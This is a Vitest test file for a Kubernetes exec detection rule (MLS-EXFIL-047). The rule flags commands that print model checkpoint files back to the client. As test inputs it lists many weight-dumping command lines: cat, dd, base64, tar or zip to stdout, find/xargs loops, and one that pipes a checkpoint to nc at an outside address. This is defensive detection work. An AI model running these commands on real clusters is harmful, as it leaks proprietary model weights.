/**
 * `attrs.exec.printsFile` (exec-client-output.ts) through the real reading (exec-canonical.ts):
 * the files an exec prints to its own output, which kubectl exec carries back to the client.
 */
import { describe, expect, it } from 'vitest';
import { canonicalExec } from './exec-canonical.js';
import { parseSize, SMALL_READ } from './exec-client-output.js';
import { execRuleIds, SA } from './exec-events.test-support.js';

const printed = (line: string): readonly string[] => canonicalExec(['sh', '-c', line]).printsFiles;

describe('printsFile: what an exec prints back to its client', () => {
  it('reads readers whose output reaches the exec: cat, dd if=, head/tail past a header, encoders, compressors to stdout, dumpers, openssl enc -in', () => {
    expect(canonicalExec(['cat', '/mnt/ckpt/m.safetensors']).printsFiles).toEqual(['cat /mnt/ckpt/m.safetensors']);
    expect(printed('cat /mnt/ckpt/a.pt /mnt/ckpt/b.pt')).toEqual(['cat /mnt/ckpt/a.pt', 'cat /mnt/ckpt/b.pt']);
    expect(printed('dd if=/mnt/ckpt/m.pt bs=1M skip=100 count=100 status=none')).toEqual(['dd /mnt/ckpt/m.pt']);
    expect(printed('dd if=/mnt/ckpt/m.pt of=/dev/stdout')).toEqual(['dd /mnt/ckpt/m.pt']);
    expect(printed('head -c 100000000 /mnt/ckpt/m.pt')).toEqual(['head /mnt/ckpt/m.pt']);
    expect(printed('tail -c +100000001 /mnt/ckpt/m.pt')).toEqual(['tail /mnt/ckpt/m.pt']);
    expect(printed('base64 -w0 /mnt/ckpt/m.pt')).toEqual(['base64 /mnt/ckpt/m.pt']);
    expect(printed('gzip -c /mnt/ckpt/m.pt')).toEqual(['gzip /mnt/ckpt/m.pt']);
    expect(printed('zstd -T0 --stdout /mnt/ckpt/m.pt')).toEqual(['zstd /mnt/ckpt/m.pt']);
    expect(printed('xxd -p /mnt/ckpt/m.pt')).toEqual(['xxd /mnt/ckpt/m.pt']);
    expect(printed('xxd -ps -c 256 /mnt/ckpt/m.pt')).toEqual(['xxd /mnt/ckpt/m.pt']);
    expect(printed('xxd -seek 1048576 -len 104857600 /mnt/ckpt/m.pt')).toEqual(['xxd /mnt/ckpt/m.pt']);
    expect(printed('od -An -tx1 -v /mnt/ckpt/m.pt')).toEqual(['od /mnt/ckpt/m.pt']);
    expect(printed('openssl enc -aes-256-cbc -pass pass:x -in /mnt/ckpt/m.pt')).toEqual(['openssl /mnt/ckpt/m.pt']);
    expect(printed('pv -q -L 1m /mnt/ckpt/m.pt')).toEqual(['pv /mnt/ckpt/m.pt']);
  });

  it('follows a pipeline of stages that pass the bytes on, standard input from the file, stderr and loop lists', () => {
    expect(printed('cat /mnt/ckpt/m.pt | gzip -9 | base64 -w0')).toEqual(['cat /mnt/ckpt/m.pt']);
    expect(printed('cat /mnt/ckpt/m.pt | openssl enc -aes-256-cbc -pass pass:k')).toEqual(['cat /mnt/ckpt/m.pt']);
    expect(printed('base64 < /mnt/ckpt/m.pt')).toEqual(['base64 /mnt/ckpt/m.pt']);
    expect(printed('cat /mnt/ckpt/m.pt >&2')).toEqual(['cat /mnt/ckpt/m.pt']);
    expect(printed('sudo cat /mnt/ckpt/m.pt 2>/dev/null')).toEqual(['cat /mnt/ckpt/m.pt']);
    expect(printed('for f in /mnt/ckpt/a.pt /mnt/ckpt/b.pt; do cat "$f"; done')).toEqual(['cat /mnt/ckpt/a.pt', 'cat /mnt/ckpt/b.pt']);
  });

  it('leaves output kept in the pod, reduced, sent elsewhere, or a header: no file printed', () => {
    for (const line of [
      'cat /mnt/ckpt/m.pt > /dev/null',
      'cat /mnt/ckpt/m.pt > /tmp/m.pt',
      'cat /mnt/ckpt/m.pt | sha256sum',
      'cat /mnt/ckpt/m.pt | gzip | wc -c',
      'cat /mnt/ckpt/m.pt | gzip > /tmp/m.gz',
      'cat /mnt/ckpt/m.pt | zstd -o /tmp/m.zst',
      'cat /mnt/ckpt/m.pt | nc 203.0.113.5 4444',
      'dd if=/mnt/ckpt/m.pt of=/dev/null bs=1M',
      'dd if=/mnt/ckpt/m.pt of=/tmp/part bs=1M count=100',
      'dd if=/mnt/ckpt/m.safetensors bs=1 count=8',
      'head -c 8 /mnt/ckpt/m.safetensors',
      'head -c 64K /mnt/ckpt/m.safetensors | xxd',
      'xxd -l 64 /mnt/ckpt/m.pt',
      'xxd -len 0x40 /mnt/ckpt/m.pt',
      'xxd -l32 -ps /mnt/ckpt/m.pt',
      'cat /mnt/ckpt/m.pt | openssl enc -aes-256-cbc -pass pass:k -out /tmp/m.enc',
      'od -N 16 -tx1 /mnt/ckpt/m.pt',
      'xxd /mnt/ckpt/m.pt /tmp/m.hex',
      'gzip /mnt/ckpt/m.pt',
      'zstd /mnt/ckpt/m.pt -o /tmp/m.zst',
      'openssl enc -aes-256-cbc -in /mnt/ckpt/m.pt -out /tmp/m.enc -pass pass:k',
      'sha256sum /mnt/ckpt/m.pt',
      'ls -la /mnt/ckpt',
      'python3 train.py --resume /mnt/ckpt/m.pt',
    ]) expect(printed(line), line).toEqual([]);
  });

  it('reads what a find -exec, an xargs or a while-read loop is handed by the command that lists the files', () => {
    expect(printed("find /mnt/ckpt -name '*.safetensors' -exec cat {} +")).toEqual(['cat /mnt/ckpt/*.safetensors']);
    expect(printed("find -L /mnt/ckpt/ /data -iname '*.PT' -type f -exec base64 -w0 {} \\;")).toEqual(['base64 /mnt/ckpt/*.PT', 'base64 /data/*.PT']);
    expect(printed("find /mnt/ckpt -path '*/step-9000/*' -execdir cat {} +")).toEqual(['cat */step-9000/*']);
    expect(printed('find /mnt/ckpt -type f -print0 | xargs -0 cat | gzip')).toEqual(['cat /mnt/ckpt/*']);
    expect(printed('ls /mnt/ckpt/*.pt | xargs -n1 -P4 base64')).toEqual(['base64 /mnt/ckpt/*.pt']);
    expect(printed('ls -1 /mnt/ckpt/*.safetensors | xargs -I{} dd if={} bs=4M')).toEqual(['dd /mnt/ckpt/*.safetensors']);
    expect(printed('echo /mnt/ckpt/a.pt /mnt/ckpt/b.pt | xargs -I F cat F')).toEqual(['cat /mnt/ckpt/a.pt', 'cat /mnt/ckpt/b.pt']);
    expect(printed("find /mnt/ckpt -name '*.pt' | while read -r f; do cat \"$f\"; done")).toEqual(['cat /mnt/ckpt/*.pt']);
    expect(printed("find /mnt/ckpt -name '*.pt' | while IFS= read -r f; do base64 \"$f\"; done")).toEqual(['base64 /mnt/ckpt/*.pt']);
    expect(printed("find /mnt/ckpt -name '*.pt' | xargs -i cat {}")).toEqual(['cat /mnt/ckpt/*.pt']);
    // No file handed on: a hash, a listing, the output kept or reduced, a header, a list this reading cannot know.
    expect(printed("find /mnt/ckpt -name '*.pt' -exec sha256sum {} +")).toEqual([]);
    expect(printed("find /mnt/ckpt -name '*.pt' | xargs ls -la")).toEqual([]);
    expect(printed("find /mnt/ckpt -name '*.pt' | xargs cat > /tmp/all.bin")).toEqual([]);
    expect(printed("find /mnt/ckpt -name '*.pt' -exec cat {} + | sha256sum")).toEqual([]);
    expect(printed("find /mnt/ckpt -name '*.pt' | while read f; do head -c 8 \"$f\"; done")).toEqual([]);
    expect(printed('cat list.txt | xargs cat')).toEqual([]);
  });

  it('reads loops over a lister substituted, a while loop fed by a process substitution, and the parameters of a shell find -exec runs', () => {
    expect(printed('for f in $(find /mnt/ckpt -name "*.pt"); do cat "$f"; done')).toEqual(['cat /mnt/ckpt/*.pt']);
    expect(printed('for f in `ls /mnt/ckpt/*.safetensors`; do base64 $f; done')).toEqual(['base64 /mnt/ckpt/*.safetensors']);
    expect(canonicalExec(['bash', '-c', 'while read f; do cat "$f"; done < <(find /mnt/ckpt -name "*.pt")']).printsFiles).toEqual(['cat /mnt/ckpt/*.pt']);
    expect(printed("find /mnt/ckpt -name '*.pt' -exec sh -c 'cat \"$1\"' _ {} \\;")).toEqual(['cat /mnt/ckpt/*.pt']);
    expect(printed("find /mnt/ckpt -name '*.pt' -exec bash -c 'cat \"$0\" | base64' {} \\;")).toEqual(['cat /mnt/ckpt/*.pt']);
    expect(printed("find /mnt/ckpt -name '*.pt' -exec sh -c 'cat \"$@\"' _ {} +")).toEqual(['cat /mnt/ckpt/*.pt']);
    expect(printed("find /mnt/ckpt -name '*.pt' -exec sh -c 'for f; do dd if=\"$f\" bs=4M; done' _ {} +")).toEqual(['dd /mnt/ckpt/*.pt']);
    // The find under a wrapper: sudo, nice, a timeout.
    expect(printed("sudo find /mnt/ckpt -name '*.pt' -exec sh -c 'cat \"$1\"' _ {} \\;")).toEqual(['cat /mnt/ckpt/*.pt']);
    expect(printed("nice -n 19 timeout 600 find /mnt/ckpt -name '*.pt' -exec bash -c 'base64 -w0 \"$0\"' {} \\;")).toEqual(['base64 /mnt/ckpt/*.pt']);
    expect(printed("sudo -u ml find /mnt/ckpt -name '*.pt' -exec sh -c 'sha256sum \"$1\"' _ {} \\;")).toEqual([]);
    // The shell under a wrapper of its own; the find as the argv; find's {} inside the script itself.
    expect(printed("find /mnt/ckpt -name '*.pt' -exec sudo sh -c 'cat \"$1\"' _ {} \\;")).toEqual(['cat /mnt/ckpt/*.pt']);
    expect(printed("find /mnt/ckpt -name '*.pt' -exec sudo -u ml cat {} +")).toEqual(['cat /mnt/ckpt/*.pt']);
    expect(canonicalExec(['find', '/mnt/ckpt', '-name', '*.pt', '-exec', 'sh', '-c', 'cat "$1"', '_', '{}', ';']).printsFiles).toEqual(['cat /mnt/ckpt/*.pt']);
    expect(printed("find /mnt/ckpt -name '*.pt' -exec sh -c 'base64 {}' \\;")).toEqual(['base64 /mnt/ckpt/*.pt']);
    // Unknown lists stay as written; a reduced read prints nothing.
    expect(canonicalExec(['bash', '-c', 'while read f; do cat "$f"; done < list.txt']).printsFiles).toEqual(['cat $f']);
    expect(printed("find /mnt/ckpt -name '*.pt' -exec sh -c 'sha256sum \"$1\"' _ {} \\;")).toEqual([]);
    expect(printed("find /mnt/ckpt -name '*.pt' -exec sh -c 'cat \"$1\"' _ /etc/hostname \\;")).toEqual(['cat $1']);
  });

  it('reads what an xargs fed by a lister hands the shell it runs: the items after its own arguments, or in place of the -I string', () => {
    expect(printed("find /mnt/ckpt -name '*.pt' | xargs -I{} sh -c 'cat {}'")).toEqual(['cat /mnt/ckpt/*.pt']);
    expect(printed("find /mnt/ckpt -name '*.pt' | xargs -I % bash -c 'base64 -w0 %'")).toEqual(['base64 /mnt/ckpt/*.pt']);
    expect(printed("find /mnt/ckpt -name '*.pt' | xargs -I{} sh -c 'cat \"$1\"' _ {}")).toEqual(['cat /mnt/ckpt/*.pt']);
    expect(printed("find /mnt/ckpt -name '*.pt' -print0 | xargs -0 -n1 sh -c 'cat \"$0\"'")).toEqual(['cat /mnt/ckpt/*.pt']);
    expect(printed("find /mnt/ckpt -name '*.pt' | xargs sh -c 'cat \"$@\"' _")).toEqual(['cat /mnt/ckpt/*.pt']);
    expect(printed("ls /mnt/ckpt/*.safetensors | xargs -n1 sudo sh -c 'gzip -c \"$0\"'")).toEqual(['gzip /mnt/ckpt/*.safetensors']);
    expect(printed("find /mnt/ckpt -name '*.pt' | xargs sudo cat")).toEqual(['cat /mnt/ckpt/*.pt']);
    // Reduced, kept in the pod, or fed by an unknown list: nothing of the lister's printed.
    expect(printed("find /mnt/ckpt -name '*.pt' | xargs sh -c 'cat \"$@\" | sha256sum' _")).toEqual([]);
    expect(printed("find /mnt/ckpt -name '*.pt' | xargs -I{} sh -c 'cat {} > /tmp/x'")).toEqual([]);
    expect(printed("cat list.txt | xargs -I{} sh -c 'cat {}'")).toEqual(['cat {}']);
  });

  it('reads the arguments a shell is given after its script as its positional parameters', () => {
    expect(canonicalExec(['sh', '-c', 'cat "$1"', '_', '/mnt/ckpt/m.pt']).printsFiles).toContain('cat /mnt/ckpt/m.pt');
    expect(canonicalExec(['bash', '-c', 'for f; do base64 "$f"; done', 'x', '/mnt/ckpt/a.pt']).printsFiles).toEqual(['base64 /mnt/ckpt/a.pt']);
    expect(canonicalExec(['bash', '-c', 'base64 -w0 "$@"', 'x', '/mnt/ckpt/a.pt', '/mnt/ckpt/b.pt']).printsFiles).toEqual(['base64 /mnt/ckpt/a.pt', 'base64 /mnt/ckpt/b.pt']);
    expect(printed("sh -c 'cat \"$1\"' _ /mnt/ckpt/m.pt")).toContain('cat /mnt/ckpt/m.pt');
    expect(canonicalExec(['sh', '-c', 'sha256sum "$1"', '_', '/mnt/ckpt/m.pt']).printsFiles).toEqual([]);
  });

  it('reads the members an archiver writes to its standard output (what kubectl cp runs), joined to tar -C, and no archive written to a file', () => {
    expect(canonicalExec(['tar', 'cf', '-', '/mnt/ckpt/m-00001-of-00038.safetensors']).printsFiles).toEqual(['tar /mnt/ckpt/m-00001-of-00038.safetensors']);
    expect(printed('tar -C /mnt/ckpt/run-7 -czf - step_4000 | base64 -w0')).toEqual(['tar /mnt/ckpt/run-7/step_4000']);
    expect(printed('tar --create --file=- -C /mnt/ckpt a.pt /abs/b.pt')).toEqual(['tar /mnt/ckpt/a.pt', 'tar /abs/b.pt']);
    expect(printed('tar cvf /dev/stdout /mnt/ckpt/a.pt')).toEqual(['tar /mnt/ckpt/a.pt']);
    expect(printed('tar -c /mnt/ckpt/a.pt')).toEqual(['tar /mnt/ckpt/a.pt']);
    expect(printed('zip -r -9 - /mnt/ckpt/step-9000')).toEqual(['zip /mnt/ckpt/step-9000']);
    expect(printed("find /mnt/ckpt -name '*.pt' | xargs tar cf -")).toEqual(['tar /mnt/ckpt/*.pt']);
    expect(printed('tar cf /tmp/c.tar /mnt/ckpt/a.pt')).toEqual([]);
    expect(printed('tar czf - /mnt/ckpt/a.pt > /tmp/c.tgz')).toEqual([]);
    expect(printed('tar czf - /mnt/ckpt/a.pt | sha256sum')).toEqual([]);
    expect(printed('tar xf - -C /mnt/ckpt')).toEqual([]);
    expect(printed('tar tvf /tmp/c.tar')).toEqual([]);
    expect(printed('zip -r /tmp/c.zip /mnt/ckpt/step-9000')).toEqual([]);
  });

  it('reads sizes as GNU tools write them', () => {
    expect(parseSize('8')).toBe(8);
    expect(parseSize('0x40')).toBe(64);
    expect(parseSize('64K')).toBe(SMALL_READ);
    expect(parseSize('64KiB')).toBe(SMALL_READ);
    expect(parseSize('1kB')).toBe(1000);
    expect(parseSize('10M')).toBe(10 * 1024 * 1024);
    expect(parseSize('2b')).toBe(1024);
    expect(parseSize('+100')).toBeNull();
    expect(parseSize('-100')).toBeNull();
    expect(parseSize('1Q')).toBeNull();
  });
});

describe('MLS-EXFIL-047: exec prints a checkpoint back to its client', () => {
  it('alerts on a weight file printed whole, in chunks, encoded, compressed or over a loop, from argv or a script', () => {
    for (const argv of [
      ['cat', '/mnt/ckpt/llama/model.safetensors'],
      ['sh', '-c', 'cat /mnt/ckpt/llama/model-00001-of-00004.safetensors'],
      ['sh', '-c', 'dd if=/mnt/ckpt/llama/consolidated.00.pth bs=1M skip=200 count=100 2>/dev/null'],
      ['sh', '-c', 'tail -c +104857601 /mnt/ckpt/m.pt | head -c 104857600'],
      ['sh', '-c', 'cat /mnt/ckpt/m.pt | zstd -c | base64 -w0'],
      ['sh', '-c', 'gzip -c /data/export/model.gguf'],
      ['sh', '-c', 'for f in /mnt/ckpt/llama/*.safetensors; do cat "$f"; done'],
      ['sh', '-c', 'cat /mnt/checkpoints/step-9000/*'],
      ['base64', '-w0', '/mnt/ckpt/adapter_model.bin'],
    ]) {
      expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-047');
      expect(execRuleIds(argv, SA), argv.join(' ')).toContain('MLS-EXFIL-047');
    }
  });

  it('alerts on every shard printed through find -exec, xargs or a while-read loop, and leaves configs printed so', () => {
    expect(execRuleIds(['sh', '-c', "find /mnt/ckpt -name '*.safetensors' -exec cat {} +"])).toContain('MLS-EXFIL-047');
    expect(execRuleIds(['sh', '-c', 'find /mnt/ckpt/step-9000 -type f | xargs cat | zstd | base64 -w0'])).toContain('MLS-EXFIL-047');
    expect(execRuleIds(['sh', '-c', "find /mnt/ckpt -name '*.pt' | while read f; do dd if=\"$f\" bs=4M; done"])).toContain('MLS-EXFIL-047');
    expect(execRuleIds(['sh', '-c', 'for f in $(find /mnt/ckpt -name "*.safetensors"); do base64 -w0 "$f"; done'])).toContain('MLS-EXFIL-047');
    expect(execRuleIds(['bash', '-c', 'while read -r f; do cat "$f"; done < <(find /mnt/ckpt -name "*.pt")'])).toContain('MLS-EXFIL-047');
    expect(execRuleIds(['sh', '-c', "sudo find /mnt/ckpt -name '*.pt' -exec sh -c 'cat \"$1\" | gzip' _ {} \\;"])).toContain('MLS-EXFIL-047');
    expect(execRuleIds(['sh', '-c', "find /mnt/ckpt -name '*.pt' -exec sh -c 'cat \"$1\" | gzip' _ {} \\;"])).toContain('MLS-EXFIL-047');
    expect(execRuleIds(['sh', '-c', "find /mnt/ckpt -name '*.safetensors' | xargs -I{} sh -c 'base64 -w0 {}'"])).toContain('MLS-EXFIL-047');
    expect(execRuleIds(['sh', '-c', "find /mnt/ckpt -name '*.pt' -exec sudo sh -c 'cat \"$1\"' _ {} \\;"])).toContain('MLS-EXFIL-047');
    expect(execRuleIds(['sh', '-c', 'cat "$1" | gzip', 'sh', '/mnt/ckpt/llama/model-00001-of-00004.safetensors'])).toContain('MLS-EXFIL-047');
    expect(execRuleIds(['sh', '-c', "find /mnt/ckpt -name '*.json' | xargs -I{} sh -c 'cat {}'"])).not.toContain('MLS-EXFIL-047');
    expect(execRuleIds(['sh', '-c', 'for f in $(find /mnt/ckpt -name "*.json"); do cat "$f"; done'])).not.toContain('MLS-EXFIL-047');
    expect(execRuleIds(['sh', '-c', "find /mnt/ckpt -name '*.json' -exec cat {} +"])).not.toContain('MLS-EXFIL-047');
    expect(execRuleIds(['sh', '-c', "find /mnt/ckpt -name '*.pt' -exec sha256sum {} +"])).not.toContain('MLS-EXFIL-047');
  });

  it('alerts on weight files or a checkpoint directory archived to the client by hand, and leaves kubectl cp itself to MLS-EXFIL-012 and MLS-INSIDER-006', () => {
    for (const argv of [
      ['tar', 'czf', '-', '/mnt/ckpt/whisper/step_4000/model-00001-of-00038.safetensors'],
      ['sh', '-c', 'tar cf - /mnt/ckpt/whisper/step_4000 | zstd | base64 -w0'],
      ['tar', '-C', '/mnt/checkpoints', '-czf', '-', 'step-9000'],
      ['sh', '-c', 'zip -qr - /models/llama/weights | base64'],
    ]) {
      expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-047');
      if (argv[0] === 'tar') expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-012');
    }
    // kubectl cp pod:/mnt/ckpt/… . sends exactly this exec.
    for (const file of ['/mnt/ckpt/whisper/step_4000/model-00001-of-00038.safetensors', '/mnt/ckpt/whisper/step_4000']) {
      expect(execRuleIds(['tar', 'cf', '-', file])).toContain('MLS-EXFIL-012');
      expect(execRuleIds(['tar', 'cf', '-', file])).not.toContain('MLS-EXFIL-047');
    }
    for (const argv of [
      ['tar', 'cf', '-', '/var/log/trainer'],
      ['tar', 'cf', '-', '/mnt/ckpt/run-7/config.json'],
      ['tar', 'cf', '/tmp/step.tar', '/mnt/ckpt/step_4000'],
      ['sh', '-c', 'tar cf - /mnt/ckpt/step_4000 | tar xf - -C /scratch'],
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-047');
  });

  it('leaves configs and logs printed, checkpoints hashed, warmed, copied in the pod or loaded, and header reads', () => {
    for (const argv of [
      ['cat', '/mnt/ckpt/llama/config.json'],
      ['sh', '-c', 'tail -n 100 /mnt/ckpt/llama/trainer_log.txt'],
      ['sh', '-c', 'sha256sum /mnt/ckpt/llama/*.safetensors'],
      ['sh', '-c', 'cat /mnt/ckpt/llama/*.safetensors > /dev/null'],
      ['sh', '-c', 'cp /mnt/ckpt/m.pt /tmp/m.pt && cat /mnt/ckpt/m.pt | wc -c'],
      ['sh', '-c', 'head -c 8 /mnt/ckpt/m.safetensors | od -An -tu8'],
      ['sh', '-c', 'python3 -c "import torch; torch.load(\'/mnt/ckpt/m.pt\')"'],
      ['sh', '-c', 'ls -la /mnt/ckpt/llama'],
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-047');
  });
});
